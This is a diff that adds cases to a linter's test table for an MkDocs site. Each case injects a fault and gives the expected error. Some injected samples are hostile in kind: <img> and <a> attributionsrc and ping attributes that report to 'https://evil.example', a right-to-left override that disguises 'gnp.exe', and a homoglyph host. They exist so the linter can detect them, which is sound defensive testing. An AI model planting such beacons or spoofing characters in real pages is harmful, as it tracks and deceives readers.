@@ -1582,6 +1582,18 @@ CASES |= {
         replace(CONFIG, "nav:\n", "nav:\n  - UPI: https://www.upi\u3002com/x\n"),
         f"{CONFIG}:{line_of(CONFIG, 'nav:') + 1}: `nav` links to 'https://www.upi\u3002com/x': the host www.upi\u3002com holds "
         "'\u3002' (U+3002 IDEOGRAPHIC FULL STOP), which browsers read as '.'; give the address as the site itself gives it"),
+    "mkdocs.yml: a footnotes option that breaks every page": (
+        replace(CONFIG, "  - footnotes\n", "  - footnotes: {PLACE_MARKER: 5}\n"),
+        f"{CONFIG}:{line_of(CONFIG, '  - footnotes')}: `footnotes` cannot use the options {{'PLACE_MARKER': 5}} (TypeError: "),
+    "mkdocs.yml: a palette toggle named with a right-to-left override reference": (
+        replace(CONFIG, "name: Switch to dark mode", "name: Switch &#x202E;to dark mode"),
+        f"{CONFIG}:{line_of(CONFIG, 'name: Switch to dark mode')}: `theme.palette.toggle.name` holds U+202E, an invisible "
+        "character that reorders or hides the text around it, which the theme writes into every page; remove it (write "
+        "plain text)"),
+    "a template asking readers' browsers to report to another host": (
+        replace(TEMPLATE, DRAWER, DRAWER + '<img src="/assets/favicon.svg" alt="" attributionsrc="https://evil.example/r">'),
+        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry a <img attributionsrc> that loads "
+        "'https://evil.example/r' from another host"),
     "a combining grapheme joiner in a publisher": (
         replace(AP, "publisher: Associated Press", "publisher: Associated\u034f Press"),
         f"{AP}:{line_of(AP, 'publisher: ')}: a value holds U+034F, {INVISIBLE}"),
@@ -1607,9 +1619,19 @@ CASES |= {
     "a template computing a link that pings another host": (
         replace(TEMPLATE, DRAWER, DRAWER + '{{ "%c"|format(60) }}a href="/" ping="https://evil.example/track">x'
                 '{{ "%c"|format(60) }}/a>'),
-        "site/index.html: a <a ping> that tells 'https://evil.example/track' of every click; remove it from the page or the "
-        "data it came from: pages and data carry no scripts"),
+        "site/index.html: a <a ping> that tells 'https://evil.example/track' of what readers do; remove it from the page or "
+        "the data it came from: pages and data carry no scripts"),
+    "a template computing a right-to-left override": (
+        replace(TEMPLATE, DRAWER, DRAWER + '<p>Edition {{ "%c" | format(8238) }}gnp.exe</p>'),
+        "site/index.html: holds U+202E, an invisible character that reorders the text around it; remove it from the page "
+        "or the data it came from: pages and data carry no scripts"),
+    "a template computing an attributionsrc": (
+        replace(TEMPLATE, DRAWER, DRAWER + '{{ "%c"|format(60) }}a href="/" attributionsrc="https://evil.example/r">x'
+                '{{ "%c"|format(60) }}/a>'),
+        "site/index.html: a <a attributionsrc> that tells 'https://evil.example/r' of what readers do; remove it from the "
+        "page or the data it came from: pages and data carry no scripts"),
 }
+RENDERED_TEMPLATES |= {"a template computing a right-to-left override", "a template computing an attributionsrc"}
 RENDERED_TEMPLATES |= {"a template computing a <base> with a format filter", "a template computing a form posting off site",
                        "a template computing a link that pings another host"}
 
